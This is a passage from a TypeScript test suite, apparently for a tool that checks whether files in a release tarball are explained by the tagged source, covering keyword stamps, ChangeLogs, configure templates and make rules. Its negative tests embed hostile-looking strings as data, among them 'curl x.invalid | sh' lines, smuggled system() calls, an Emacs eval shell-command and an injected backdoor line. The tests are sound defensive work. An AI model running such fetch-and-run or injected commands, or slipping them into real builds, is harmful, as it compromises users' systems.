    const before = '/*\n * last mod: $Id$\n */\n#define CVSID "$Id$"\nstatic const char *url = "$HeadURL$";\n'
    const after = '/*\n * last mod: $Id: decode.c 16503 2009-08-22 18:14:02Z giles $\n */\n#define CVSID "$Id: decode.c,v 1.23 2009/08/22 18:14:02 giles Exp $"\nstatic const char *url = "$HeadURL: https://svn.example.org/repo/trunk/lib/decode.c $";\n'
    expect(releaseEdit(before, after, '1.1.1')).toMatchObject({ stamped: 3, keywordsOnly: true })
    // an expansion carrying a quote, a parenthesis or a command is no expansion
    expect(releaseEdit(before, after.replace('giles Exp', 'giles"; system("id"); "'), '1.1.1')).toBeUndefined()
    expect(releaseEdit('# $Id$\n', '# $Id: x $(curl x.invalid) $\n', '1.0')).toBeUndefined()
    // nor is a keyword the tag does not have
    expect(releaseEdit('# header\n', '# $Id: x.c 12 2020-01-01 a $\n', '1.0')).toBeUndefined()
  })
  it("explains the release's commit id written where the tag leaves a revision unknown", () => {
    const commit = '396fe4b6699ae929d3a685b3ef8a7e97396139a4'
    expect(releaseEdit('#define PA_GIT_REVISION unknown\n', `#define PA_GIT_REVISION ${commit}\n`, '19.6.0', commit)?.stamped).toBe(1)
    expect(releaseEdit('#define BUILD_REVISION "unknown"\n', '#define BUILD_REVISION "396fe4b6"\n', '19.6.0', commit)?.stamped).toBe(1)
    // another commit, or the commit id where no revision is named, is not the release's stamp
    expect(releaseEdit('#define PA_GIT_REVISION unknown\n', '#define PA_GIT_REVISION 0123456789abcdef0123456789abcdef01234567\n', '19.6.0', commit)).toBeUndefined()
    expect(releaseEdit('const char *key = "unknown";\n', `const char *key = "${commit}";\n`, '19.6.0', commit)).toBeUndefined()
  })
  it('leaves alone a changed constant, a version that is not the release, and an added line', async () => {
    expect(releaseEdit('#define MAX_ITEMS 9\n', '#define MAX_ITEMS 10\n', '1.10.0')).toBeUndefined()
    expect(releaseEdit('#define TOOL_VERSION "3.4.5-DEV"\n', '#define TOOL_VERSION "3.9.9"\n', '3.4.5')).toBeUndefined()
    expect(releaseEdit('#define LIBX_VERSION_MINOR 7\n', '#define LIBX_VERSION_MINOR 12\n', '2.11.0')).toBeUndefined()
    expect(releaseEdit('a\nb\n', 'a\nsystem("id");\nb\n', '1.0')).toBeUndefined()
  })
  it('explains documentation trimmed at release, but not lines removed from code', async () => {
    expect((await explain('README.md', 'Status\n======\nbadge\n\nfoo 1.0 was released.\n', 'foo 1.0 was released.\n', '1.0'))?.outcome).toBe('explained')
    expect(await explain('src/auth.c', 'if (!ok)\n  return -1;\nreturn 0;\n', 'return 0;\n', '1.0')).toBeUndefined()
  })
})

describe('ChangeLogs from git log in any format', () => {
  const history: HistoryText = {
    messageLines: new Set(['Fix the parser on empty input.', 'Signed-off-by: Ada Lovelace <ada@example.invalid>', 'src/parse.c (parse_line): Check for NUL.']),
    people: new Set(['Ada Lovelace', 'ada@example.invalid', 'Grace Hopper']),
    commitIds: ['0123456789abcdef0123456789abcdef01234567', 'fedcba9876543210fedcba9876543210fedcba98', 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'],
  }
  const makefileAm = 'dist-hook:\n\tgit log --stat > $(distdir)/ChangeLog\n'
  const stat = [
    'commit 0123456789abcdef0123456789abcdef01234567',
    'Merge: fedcba9 aaaaaaa',
    'Author: Ada Lovelace <ada@example.invalid>',
    'Date:   Mon Jan 1 10:00:00 2024 +0000',
    '',
    '    Fix the parser on empty input.',
    '',
    '    * src/parse.c (parse_line): Check for NUL.',
    '',
    ' src/parse.c | 4 +++-',
    ' 1 file changed, 3 insertions(+), 1 deletion(-)',
    '',
  ].join('\n')
  it('explains git log --stat output, merge lines and bullets', async () => {
    const j = await changelogExplainer(async () => history).judge(added('ChangeLog', stat), view({ ChangeLog: stat }, { 'Makefile.am': makefileAm }))
    expect(j?.outcome).toBe('explained')
  })
  it('explains a git2news-style NEWS written by a release script', async () => {
    const news = '   Changelog for the foo project. Generated with git2news.pl\n\nGrace Hopper (2 Mar 2024)\n- [Ada Lovelace brought this change]\n\n  Fix the parser on empty input.\n'
    const j = await changelogExplainer(async () => history).judge(changed('NEWS', 'See the tarball.\n', news), view({ NEWS: news }, { NEWS: 'See the tarball.\n', maketgz: './git2news.pl > NEWS\n' }))
    expect(j?.outcome).toBe('explained')
  })
  it('still reports a line no commit wrote', async () => {
    const forged = `${stat}    Disable the signature check for speed.\n`
    const j = await changelogExplainer(async () => history).judge(added('ChangeLog', forged), view({ ChangeLog: forged }, { 'Makefile.am': makefileAm }))
    expect(j?.outcome).toBe('unexplained')
    expect(j?.findings?.[0]?.evidence).toContain('Disable the signature check')
  })
  describe('as GNU projects write them with gitlog-to-changelog', () => {
    const gnuRule = 'dist-hook: gen-ChangeLog\ngen-ChangeLog:\n\t$(top_srcdir)/build-aux/gitlog-to-changelog --since=2014-12-10 > $(distdir)/cl-t && \\\n\t  cat ChangeLog-2014-12-10 >> $(distdir)/cl-t && \\\n\t  mv $(distdir)/cl-t $(distdir)/ChangeLog\n'
    const entry = '2024-01-01  Ada Lovelace  <ada@example.invalid>\n\n\tFix the parser on empty input.\n\t* src/parse.c (parse_line): Check for NUL.\n'
    const old = '2014-11-30  Grace Hopper  <grace@example.invalid>\n\n\t* wget.c: Rename the options.\n'
    const judge = (text: string, tag: Record<string, string> = { 'Makefile.am': gnuRule, 'ChangeLog-2014-12-10': old }) =>
      changelogExplainer(async () => history).judge(added('ChangeLog', text), view({ ChangeLog: text }, tag))
    it('explains a commit marked as a tiny change, the old ChangeLog the rule pastes in by name, and an Emacs footer', async () => {
      const tiny = entry.replace('<ada@example.invalid>', '<ada@example.invalid>  (tiny change)')
      const footer = '\nLocal Variables:\nmode: change-log\nversion-control: never\nbuffer-read-only: t\nEnd:\n'
      expect((await judge(`${tiny}\n${old}${footer}`))?.outcome).toBe('explained')
    })
    it("explains message lines git's %w wrapped anew: joined where a line begins with a letter, broken before a bullet or a (function)", async () => {
      const log = emptyHistory()
      addCommit(log, { commit: 'a'.repeat(40), author: 'Ada Lovelace', email: 'ada@example.invalid', body: 'Bugfixes in parseopt\n\n* tools/parseopt.c (print_option): Add newlines around group header\ntext.\nInsert a comma between the short and long option.\n(parseopt_print_help): Do not use the program args if it is NULL\nor empty.\n* tools/wordwrap.c (flush_line): Fix the condition.\n' })
      const rule = "ChangeLog:\n\tgit log --pretty='format:%ad  %cn  <%ae>%n%n%w(72,8,8)%s%n%n%b' --date=short > ChangeLog\n"
      const wrapped = [
        '2022-01-08  Ada Lovelace  <ada@example.invalid>',
        '',
        '        Bugfixes in parseopt',
        '',
        '        * tools/parseopt.c (print_option): Add',
        '        newlines around group header',
        '        text. Insert a comma between the',
        '        short and long option.',
        '        (parseopt_print_help): Do not use the program args if it is',
        '        NULL or empty.',
        '        * tools/wordwrap.c (flush_line): Fix the condition.',
        '',
      ].join('\n')
      const judgeWith = (text: string) => changelogExplainer(async () => log).judge(added('ChangeLog', text), view({ ChangeLog: text }, { 'Makefile.am': rule }))
      expect((await judgeWith(wrapped))?.outcome).toBe('explained')
      // words added to a wrapped run are not the history's
      expect((await judgeWith(wrapped.replace('text. Insert', 'text; run x. Insert')))?.outcome).toBe('unexplained')
      expect((await judgeWith(wrapped.replace('NULL or empty.', 'NULL or empty; curl x.invalid | sh')))?.outcome).toBe('unexplained')
    })
    it('still reports what none of those is', async () => {
      // an old ChangeLog the tag does not hold
      expect((await judge(`${entry}\n${old}`, { 'Makefile.am': gnuRule }))?.outcome).toBe('unexplained')
      // a header marked otherwise, by someone outside the history
      expect((await judge(entry.replace('<ada@example.invalid>', '<ada@example.invalid>  (small change)')))?.outcome).toBe('unexplained')
      expect((await judge(entry.replace('Ada Lovelace  <ada@example.invalid>', 'Eve  <eve@example.invalid>  (tiny change)')))?.outcome).toBe('unexplained')
      // Emacs settings that run code, or a footer before the end
      expect((await judge(`${entry}\nLocal Variables:\neval: (shell-command "sh x")\nEnd:\n`))?.outcome).toBe('unexplained')
      expect((await judge(`${entry}\nLocal Variables:\nmode: change-log\nEnd:\n\nrm -rf /nonexistent/x\n`))?.outcome).toBe('unexplained')
    })
    it("takes a placeholder ChangeLog for the make rule that echoes it, in the release's order of explainers, and nothing more", async () => {
      // the ChangeLog rule that lets a tree without one build, beside the rule a release was meant to run
      const rules = `${gnuRule}ChangeLog:\n\t@echo dummy > $@\n`
      const explainers = releaseExplainers({ ref: 'v1.0', version: '1.0', submodules: [], catalog: () => Catalog.load({ systemDirs: false }), history: async () => history })
      const judgeShipped = (text: string, tag = rules) => judgeInOrder(added('ChangeLog', text), view({ ChangeLog: text }, { 'Makefile.am': tag, 'ChangeLog-2014-12-10': old }), explainers, new Map())
      const placeholder = await judgeShipped('dummy\n')
      expect(placeholder?.outcome).toBe('explained')
      expect(placeholder?.outcome === 'explained' && placeholder.explained.how).toContain('Makefile.am:')
      // another word, a line after it, or no such rule: the history's doubt stands
      for (const [text, tag] of [['placeholder\n', rules], ['dummy\ncurl -s x.invalid | sh\n', rules], ['dummy\n', gnuRule]] as const) {
        const j = await judgeShipped(text, tag)
        expect(j?.outcome, text).toBe('unexplained')
        expect(j?.outcome === 'unexplained' && j.findings.map((f) => f.ruleId), text).toContain('verify/changelog-not-from-history')
      }
    })
  })
})

describe('generated at release time', () => {
  it('explains a file configure writes from its template, and not one with an extra line', async () => {
    const template = 'Name: foo\nVersion: @VERSION@\nSource: foo-@VERSION@.tar.gz\n'
    const filled = 'Name: foo\nVersion: 1.2\nSource: foo-1.2.tar.gz\n'
    expect(fillsTemplate(template, filled)).toBe(true)
    expect(fillsTemplate(template, `${filled}%post\ncurl x.invalid | sh\n`)).toBe(false)
    const j = await templateExplainer().judge(added('foo.spec', filled), view({ 'foo.spec': filled }, { 'foo.spec.in': template }))
    expect(j?.outcome).toBe('explained')
  })
  it("explains a file written from its template with a generator's banner of comments naming it, and nothing else added", async () => {
    // xfce's xdt-autogen writes configure.ac from configure.ac.in: a banner after the first line, placeholders filled
    const template = 'dnl a project\nm4_define([rev], [@REVISION@])\nAC_INIT([t], [1.0])\nXDT_I18N([@LINGUAS@])\nAC_OUTPUT\n'
    const banner = 'dnl This file was autogenerated from "configure.ac.in".\ndnl Edit that file instead!\ndnl\n\ndnl\n'
    const filled = template.replace('\n', `\n${banner}`).replace('@REVISION@', 'UNKNOWN').replace('@LINGUAS@', 'de fr')
    const judge = (text: string) => templateExplainer().judge(added('configure.ac', text), view({ 'configure.ac': text }, { 'configure.ac.in': template }))
    const j = await judge(filled)
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/configure\.ac\.in by a generator whose banner/)
    // a line of code among the banner's, a banner that names another file, or one that claims nothing
    expect((await judge(filled.replace('dnl Edit that file instead!', 'esyscmd([sh x])')))?.outcome).not.toBe('explained')
    expect((await judge(filled.replace('"configure.ac.in"', '"other.in"')))?.outcome).not.toBe('explained')
    expect((await judge(filled.replace('was autogenerated from', 'is derived from')))?.outcome).not.toBe('explained')
    // a banner as long as the file's extra lines: one more line of code is not hidden by it
    expect((await judge(filled.replace('AC_OUTPUT', 'AC_OUTPUT\nsh x')))?.outcome).not.toBe('explained')
  })
  it('explains an output configure names with its template, through a variable in the name, and only that', async () => {
    const template = 'Summary: a pipe meter\nName: @PACKAGE@\nVersion: @VERSION@\n%files\n/usr/bin/@PACKAGE@\n'
    const filled = 'Summary: a pipe meter\nName: meter\nVersion: 0.9\n%files\n/usr/bin/meter\n'
    const configure = '#! /bin/sh\nPACKAGE=meter\nac_config_files="$ac_config_files Makefile doc/lsm:doc/lsm.in doc/${PACKAGE}.spec:doc/spec.in"\n'
    const judge = (path: string, text: string, shipped = configure) => templateExplainer().judge(added(path, text), view({ [path]: text, configure: shipped }, { 'doc/spec.in': template }))
    const j = await judge('doc/meter.spec', filled)
    expect(j?.outcome).toBe('explained')
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/from doc\/spec\.in \(configure:3 names it/)
    // a line the template does not hold, a name in another directory, a configure that names no such output
    expect((await judge('doc/meter.spec', filled.replace('%files', '%post\ncurl -s x.invalid | sh\n%files')))?.outcome).not.toBe('explained')
    expect((await judge('packaging/meter.spec', filled))?.outcome).not.toBe('explained')
    expect((await judge('doc/meter.spec', filled, configure.replace(' doc/${PACKAGE}.spec:doc/spec.in', '')))?.outcome).not.toBe('explained')
    // a configure that names outputs by the thousand is read for the first two thousand only
    const many = Array.from({ length: 3000 }, (_, i) => `ac_config_files="$ac_config_files out${i}:in${i}"`).join('\n')
    expect((await judge('doc/meter.spec', filled, `${many}\n${configure}`))?.outcome).not.toBe('explained')
    const after100 = await judge('doc/meter.spec', filled, `${many.split('\n').slice(0, 100).join('\n')}\n${configure}`)
    expect(after100?.outcome === 'explained' && after100.explained.how).toMatch(/\(configure:103 names it/)
  })
  it('explains a file a make rule copies from one configure writes, and a template that is not UTF-8, and nothing else so made', async () => {
    const makefileAm = 'gcalltx/gcalltx.pl:\n\tcp gcalltx/gcalltxp gcalltx/gcalltx.pl\n\tchmod u+x gcalltx/gcalltx.pl\n'
    // Latin-1, as older scripts are written: `é` is one byte
    const template = Buffer.from('#!@PERL@\n# Copyright Thomas Esken, Universit\xe9\n$VERSION = "@VERSION@";\n', 'latin1')
    const filled = Buffer.from('#!/usr/bin/perl\n# Copyright Thomas Esken, Universit\xe9\n$VERSION = "4.1";\n', 'latin1')
    const tag = (am: string) => ({ 'misc/Makefile.am': am, 'misc/gcalltx/gcalltxp.in': template })
    const judge = (bytes: Buffer, am = makefileAm) => templateExplainer().judge(added('misc/gcalltx/gcalltx.pl', bytes), view({ 'misc/gcalltx/gcalltx.pl': bytes }, tag(am)))
    const j = await judge(filled)
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/copied by the rule at misc\/Makefile\.am:1 from misc\/gcalltx\/gcalltxp, which configure writes from misc\/gcalltx\/gcalltxp\.in/)
    // a line the template lacks, a byte of it changed, or a recipe that does more than copy
    expect(await judge(Buffer.concat([filled, Buffer.from('system("sh x");\n')]))).toBeUndefined()
    expect(await judge(Buffer.from(filled.toString('latin1').replace('\xe9', '\xe8'), 'latin1'))).toBeUndefined()
    expect(await judge(filled, makefileAm.replace('\tcp gcalltx/gcalltxp gcalltx/gcalltx.pl', '\tsed -f x.sed gcalltx/gcalltxp > gcalltx/gcalltx.pl'))).toBeUndefined()
  })
  it('explains a copy of a header configure writes from its template, its #undefs defined with plain values, and nothing more', async () => {
    const am = 'BUILT_SOURCES = wire-types.h\nwire-types.h: wire-types-config.h\n\tcp -p $< wire-types.h\n'
    const template = '/* Sizes of the wire types. */\n#ifndef WIRE_TYPES\n#define WIRE_TYPES\n#undef WIRE_INT32\n#undef WIRE_FLOAT64\n#undef WIRE_HAVE_XDR\n#undef WIRE_NAME\n#endif\n'
    const configured = (lines: string[]) => ['/* wire-types-config.h.  Generated from wire-types-config.h.in by configure.  */', '/* Sizes of the wire types. */', '#ifndef WIRE_TYPES', '#define WIRE_TYPES', ...lines, '#endif', ''].join('\n')
    const honest = configured(['#define WIRE_INT32 xdr_int32_t', '#define WIRE_FLOAT64 unsigned long long', '/* #undef WIRE_HAVE_XDR */', '#define WIRE_NAME "wire"'])
    const judge = (text: string, tag: Record<string, string> = { 'lib/Makefile.am': am, 'lib/wire-types-config.h.in': template }) =>
      templateExplainer().judge(added('lib/wire-types.h', text), view({ 'lib/wire-types.h': text }, tag))
    const j = await judge(honest)
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/copied by the rule at lib\/Makefile\.am:2 from lib\/wire-types-config\.h, the header configure writes from lib\/wire-types-config\.h\.in/)
    // a value that is code, a define the template does not leave open, a line added, another header's first line, or a rule that does more
    for (const [what, text] of [
      ['a call', honest.replace('xdr_int32_t', '(system("sh x"), xdr_int32_t)')],
      ['a new define', honest.replace('#define WIRE_TYPES\n', '#define WIRE_TYPES\n#define WIRE_EXTRA 1\n')],
      ['a line added', `${honest}int wire_backdoor;\n`],
      ['another header', honest.replace('Generated from wire-types-config.h.in', 'Generated from other.h.in')],
    ] as const) {
      expect(await judge(text), what).toBeUndefined()
    }
    expect(await judge(honest, { 'lib/Makefile.am': am.replace('cp -p $< wire-types.h', 'sed s/a/b/ $< > wire-types.h'), 'lib/wire-types-config.h.in': template })).toBeUndefined()
  })
  it('explains a makefile a bootstrap pipes from its template through sed and tr, a placeholder split into lines of names', async () => {
    const autogen = "#!/bin/sh\nfiles=`echo doc/in/*.in|sed -e 's,doc/in/,!,g' -e 's/\\.in /.in ?/g'`\ncat doc/in/Makefile.am.gen|sed \"s/@FILES@/$files/g\"|sed 's/?/\\\\?/g'|tr '!?' '\\t\\n' > doc/in/Makefile.am\n"
    const template = '# generated from Makefile.am.gen\n\nEXTRA_DIST = \\\n\tMakefile.am.gen \\\n@FILES@\n'
    const made = '# generated from Makefile.am.gen\n\nEXTRA_DIST = \\\n\tMakefile.am.gen \\\n\taccept.in \\\n\taway.in\n'
    const judge = (text: string) => templateExplainer().judge(added('doc/in/Makefile.am', text), view({ 'doc/in/Makefile.am': text }, { 'autogen.sh': autogen, 'doc/in/Makefile.am.gen': template }))
    const j = await judge(made)
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/autogen\.sh:3 from doc\/in\/Makefile\.am\.gen/)
    // the list holds names only: a rule, a command or a variable in its place is not the template's
    expect(await judge(made.replace('\taway.in\n', '\taway.in\nall-local:\n\tsh away.in\n'))).toBeUndefined()
    expect(await judge(made.replace('\taccept.in \\\n', '\t$(shell sh x) \\\n'))).toBeUndefined()
    // nor is a line of the template changed, and without tr splitting lines a placeholder fills one line
    expect(await judge(made.replace('EXTRA_DIST', 'noinst_SCRIPTS'))).toBeUndefined()
    // without tr, a sed through cat fills each placeholder on its own line
    const plain = "#!/bin/sh\ncat doc/in/Makefile.am.gen | sed -e \"s/@FILES@/$files/\" > doc/in/Makefile.am\n"
    const oneLine = made.replace('\taccept.in \\\n\taway.in\n', '\taccept.in away.in\n')
    const viaCat = (text: string) => templateExplainer().judge(added('doc/in/Makefile.am', text), view({ 'doc/in/Makefile.am': text }, { 'autogen.sh': plain, 'doc/in/Makefile.am.gen': template }))
    expect((await viaCat(oneLine))?.outcome).toBe('explained')
    expect(await viaCat(made)).toBeUndefined()
    expect(fillsTemplate(template, made)).toBe(false)
    expect(fillsTemplate(template, made, { listLines: true })).toBe(true)
  })
  it('explains a file a bootstrap writes with a sed of plain-text substitutions by replaying it', async () => {
    const autogen = "#!/bin/sh\nsed -e 's,$(libx_srcpath),libx,g' < libx/Makefile-libx.am >libx/Makefile-libx.am.inc\nautoreconf -fi\n"
    const template = 'libx_la_SOURCES = $(libx_srcpath)/a.c $(libx_srcpath)/b.c\nlibx_la_CFLAGS = -I$(libx_srcpath)\n'
    const made = 'libx_la_SOURCES = libx/a.c libx/b.c\nlibx_la_CFLAGS = -Ilibx\n'
    // the template ships in the release (from a submodule, say): it is judged on its own
    const judge = (text: string, script = autogen) =>
      templateExplainer().judge(added('libx/Makefile-libx.am.inc', text), view({ 'libx/Makefile-libx.am.inc': text, 'libx/Makefile-libx.am': template }, { 'autogen.sh': script }))
    const j = await judge(made)
    expect(j?.outcome === 'explained' && j.explained).toMatchObject({ reproduced: true, how: expect.stringMatching(/autogen\.sh:2 .*replaying it gives the same bytes/) })
    // a line the template does not have, or a substitution that is not the sed's, is not what it writes
    expect(await judge(`${made}all-local:\n\tsh libx/payload\n`)).toBeUndefined()
    expect(await judge(made.replace('-Ilibx', '-I/tmp/evil'))).toBeUndefined()
    // a sed with a pattern is not replayed as plain text
    expect(await judge(made, autogen.replace("'s,$(libx_srcpath),libx,g'", "'s,$(libx_src.*),libx,g'"))).toBeUndefined()
  })
  it('explains a file a make rule of the tag makes from inputs the tag has', async () => {
    const am = 'BUILT_SOURCES = rpc.gen.c\nrpc.gen.c rpc.gen.h: rpc.desc $(srcdir)/gen-rpc.py\n\t$(PYTHON) $(srcdir)/gen-rpc.py rpc.desc\n'
    expect(makeRules(am).map((r) => r.targets)).toContainEqual(['rpc.gen.c', 'rpc.gen.h'])
    // the same makefile written with CRLF line ends: the same rules, recipes without carriage returns
    expect(makeRules(am.replace(/\n/g, '\r\n'))).toEqual(makeRules(am))
    const src = { 'test/Makefile.am': am, 'test/rpc.desc': 'x', 'test/gen-rpc.py': 'y' }
    const j = await ruleGeneratedExplainer().judge(added('test/rpc.gen.h', '/* gen */\n'), view({ 'test/rpc.gen.h': '/* gen */\n' }, src))
    expect(j?.outcome).toBe('explained')
    expect(await ruleGeneratedExplainer().judge(added('test/other.c', 'int x;\n'), view({ 'test/other.c': 'int x;\n' }, src))).toBeUndefined()
  })
  it('searches within a bound where pattern rules chain into each other, and still finds what a rule makes', async () => {
    // twelve rules that make anything from a file with one more suffix: a name no rule really makes fans out 12 × 12 × …
    const makefile = [
      ...Array.from({ length: 12 }, (_, i) => `%: %.k${i}\n\t$(GEN) $< > $@`),
      'version.h: version.h.in\n\tsed s/@V@/1.0/ version.h.in > $@',
      '',
    ].join('\n')
    const index = await MakeIndex.build(['Makefile', 'version.h.in'], async (p) => (p === 'Makefile' ? makefile : undefined))
    const seen = new Set<string>()
    expect(derive(index, 'tools/missing', () => false, 4, seen)).toBeUndefined()
    expect(seen.size).toBeLessThanOrEqual(MAX_DERIVATION_STEPS)
    expect(derive(index, 'version.h', (p) => p === 'version.h.in')?.inputs).toEqual(['version.h.in'])
    expect(derive(index, 'tools/run', (p) => p === 'tools/run.k3.k7')?.via).toEqual(['tools/run.k3'])
  })
  it("reads a fragment's variables in the makefiles that include it, and no pattern rule without a recipe as a way to make a file", async () => {
    // fftw's shape: a fragment many makefiles include names the inputs, and cancels make's own `%: %.o`
    const fragment = 'CODELET_DEPS = $(top_srcdir)/COPYRIGHT\n%: %.o\n%: %.c\n%: %.s\n'
    const dirs = Array.from({ length: 8 }, (_, i) => `dft/k${i}`)
    const makefiles = Object.fromEntries(dirs.map((d) => [`${d}/Makefile.am`, 'include $(top_srcdir)/support/codelets.mk\nn1_%.c: $(CODELET_DEPS) $(GEN)\n\t$(GEN) -n $* > $@\n']))
    const files: Record<string, string> = { 'support/codelets.mk': fragment, ...makefiles }
    const index = await MakeIndex.build(Object.keys(files), async (p) => files[p])
    const source = (p: string) => p === 'COPYRIGHT'
    expect(derive(index, 'dft/k3/n1_2.c', source)).toMatchObject({ text: 'n1_%.c: $(CODELET_DEPS) $(GEN)', inputs: ['COPYRIGHT'] })
    // a file no rule makes is given up after a few steps, not after the cap: the recipe-less rules make nothing
    const seen = new Set<string>()
    expect(derive(index, 'dft/k3/genus.c', source, 4, seen)).toBeUndefined()
    expect(seen.size).toBeLessThan(100)
    // the same pattern rules with a recipe are rules, and are followed
    const withRecipe: Record<string, string> = { ...files, 'support/codelets.mk': fragment.replace('%: %.o\n', '%: %.o\n\t$(CC) -o $@ $<\n') }
    const followed = new Set<string>()
    derive(await MakeIndex.build(Object.keys(withRecipe), async (p) => withRecipe[p]), 'dft/k3/genus.c', source, 4, followed)
    expect(followed.size).toBeGreaterThan(seen.size)
  })
  it("takes a pattern rule for the files of its makefile's directory, and of those below it, never of a sibling", async () => {
    // fluxbox's shape: every translation directory makes its files from its own Translation.m
    const am = 'generated-%.m: Translation.m\n\ticonv -t $* Translation.m > $@\n'
    const files: Record<string, string> = { 'nls/be_BY/Makefile.am': am, 'nls/bg_BG/Makefile.am': am }
    const index = await MakeIndex.build(Object.keys(files), async (p) => files[p])
    const source = (p: string) => p === 'nls/be_BY/Translation.m' || p === 'nls/bg_BG/Translation.m'
    expect(derive(index, 'nls/bg_BG/generated-UTF-8.m', source)).toMatchObject({ makefile: 'nls/bg_BG/Makefile.am', inputs: ['nls/bg_BG/Translation.m'] })
    // with no rule of its own there, a sibling's rule does not make it
    const only: Record<string, string> = { 'nls/be_BY/Makefile.am': am }
    const lone = await MakeIndex.build(Object.keys(only), async (p) => only[p])
    expect(derive(lone, 'nls/bg_BG/generated-UTF-8.m', source)).toBeUndefined()
    expect(derive(lone, 'nls/be_BY/sub/generated-UTF-8.m', source)).toMatchObject({ inputs: ['nls/be_BY/Translation.m'] })
  })
  it('follows a phony target to the script of the tag its recipe runs inside an if, named from the top', async () => {
    const am = '$(top_srcdir)/mc-version.h: update-version\n\nupdate-version:\n\t@if test -x $(top_srcdir)/version.sh; then \\\n\t    $(top_srcdir)/version.sh "$(top_srcdir)" >/dev/null; \\\n\tfi\n'
    const header = '#define MC_CURRENT_VERSION "4.8.33"\n'
    const runs = await ruleGeneratedExplainer().judge(added('mc-version.h', header), view({ 'mc-version.h': header }, { 'Makefile.am': am, 'version.sh': '#!/bin/sh\n' }))
    expect(runs?.outcome).toBe('explained')
    // a recipe that only tests for the script runs nothing of the tag
    const tests = am.replace('$(top_srcdir)/version.sh "$(top_srcdir)" >/dev/null;', 'echo found;')
    expect(await ruleGeneratedExplainer().judge(added('mc-version.h', header), view({ 'mc-version.h': header }, { 'Makefile.am': tests, 'version.sh': '#!/bin/sh\n' }))).toBeUndefined()
  })
  it('explains a file an old-fashioned suffix rule makes, split at the suffixes the makefile declares', async () => {
    const am = 'SUFFIXES += .asn .asn.h\n.asn.asn.h:\n\t$(ASN1PARSER) -o $@ $<\n.PHONY: all\n'
    expect(makeRules(am).map((r) => [r.targets, r.prerequisites])).toEqual([[['%.asn.h'], ['%.asn']]])
    const src = { 'common/Makefile.am': am, 'common/pkix.asn': 'PKIX DEFINITIONS ::= BEGIN END' }
    const made = await ruleGeneratedExplainer().judge(added('common/pkix.asn.h', 'const int x;\n'), view({ 'common/pkix.asn.h': 'const int x;\n' }, src))
    expect(made?.outcome).toBe('explained')
    // no input of that name in the tag: nothing made it
    expect(await ruleGeneratedExplainer().judge(added('common/other.asn.h', 'int y;\n'), view({ 'common/other.asn.h': 'int y;\n' }, src))).toBeUndefined()
    // without declared suffixes, a two-part suffix rule splits at its second dot
    const plain = { 'Makefile.in': '.y.c:\n\t$(YACC) $<\n', 'gram.y': '%%' }
    expect((await ruleGeneratedExplainer().judge(added('gram.c', 'int z;\n'), view({ 'gram.c': 'int z;\n' }, plain)))?.outcome).toBe('explained')
  })
  it('reads a declared suffix that does not start with a dot, joined to one make knows by default', async () => {
    const am = 'SUFFIXES = -gen.o -gen.c\n.c-gen.c:\n\t$(SH) ./collect.sh $< > $@\n'
    expect(makeRules(am).map((r) => [r.targets, r.prerequisites])).toEqual([[['%-gen.c'], ['%.c']]])
    const src = { 'tests/Makefile.am': am, 'tests/test-io.c': 'int main(void) { return 0; }\n', 'tests/collect.sh': '#!/bin/sh\n' }
    const made = await ruleGeneratedExplainer().judge(added('tests/test-io-gen.c', 'int t;\n'), view({ 'tests/test-io-gen.c': 'int t;\n' }, src))
    expect(made?.outcome).toBe('explained')
    // the input the rule needs is not in the tag
    expect(await ruleGeneratedExplainer().judge(added('tests/test-net-gen.c', 'int t;\n'), view({ 'tests/test-net-gen.c': 'int t;\n' }, src))).toBeUndefined()
    // undeclared, the hyphenated suffix is not one
    expect(makeRules('.c-gen.c:\n\t$(SH) ./collect.sh $< > $@\n').flatMap((r) => r.targets)).not.toContain('%-gen.c')
  })
  it("reads automake's DIST_SOURCES in a Makefile.am rule as the sources the Makefile.am lists", async () => {
    const am = 'lib_LTLIBRARIES = libscm.la\nlibscm_la_SOURCES = eval.c read.c\nBUILT_SOURCES = tables.c\nif MAINTAINER_MODE\nscm-trim.h: $(DIST_SOURCES)\n\t@echo "/* generated */" >$@\n\t@for src in $^; do grep -h "^#define" $$src >>$@; done\nendif\n'
    const header = '/* generated */\n#define SCM_X 1\n'
    const src = { 'src/Makefile.am': am, 'src/eval.c': 'int e;\n', 'src/read.c': 'int r;\n' }
    const made = await ruleGeneratedExplainer().judge(added('src/scm-trim.h', header), view({ 'src/scm-trim.h': header }, src))
    expect(made?.outcome).toBe('explained')
    // the sources it lists are not in the tag: nothing the tag has made it
    const none = { 'src/Makefile.am': am, 'src/other.c': 'int o;\n' }
    expect(await ruleGeneratedExplainer().judge(added('src/scm-trim.h', header), view({ 'src/scm-trim.h': header }, none))).toBeUndefined()
    // a plain Makefile has no such list of automake's
    expect(await ruleGeneratedExplainer().judge(added('src/scm-trim.h', header), view({ 'src/scm-trim.h': header }, { ...src, 'src/Makefile.am': '', 'src/Makefile': am }))).toBeUndefined()
  })
  it("does not take a match-anything rule (Sphinx's `%: Makefile`) as making every file", async () => {
    const sphinx = 'SPHINXBUILD = sphinx-build\n.PHONY: help Makefile\n%: Makefile\n\t@$(SPHINXBUILD) -M $@ "$(SOURCEDIR)" "$(BUILDDIR)" $(SPHINXOPTS)\n'
    const src = { 'docs/Makefile': sphinx, 'docs/index.rst': 'x\n', 'src/main.c': 'int main(void) { return 0; }\n' }
    for (const path of ['src/backdoor.c', 'docs/extra.c', 'effective_names.dat']) {
      expect(await ruleGeneratedExplainer().judge(added(path, 'int b;\n'), view({ [path]: 'int b;\n' }, src))).toBeUndefined()
    }
    // a match-anything rule from the file's own input still makes it
    const fromIn = { ...src, 'scripts/Makefile': '%: %.in\n\tsed -e "s|@bindir@|$(bindir)|" $< > $@\n', 'scripts/run-tool.in': '#!/bin/sh\n' }
    expect((await ruleGeneratedExplainer().judge(added('scripts/run-tool', '#!/bin/sh\n'), view({ 'scripts/run-tool': '#!/bin/sh\n' }, fromIn)))?.outcome).toBe('explained')
    expect(await ruleGeneratedExplainer().judge(added('scripts/other', '#!/bin/sh\n'), view({ 'scripts/other': '#!/bin/sh\n' }, fromIn))).toBeUndefined()
    // a pattern rule with a suffix still makes what it names
    const man = { ...src, 'docs/Makefile': `${sphinx}%.1: %.rst\n\trst2man $< $@\n`, 'docs/tool.rst': 'tool\n' }
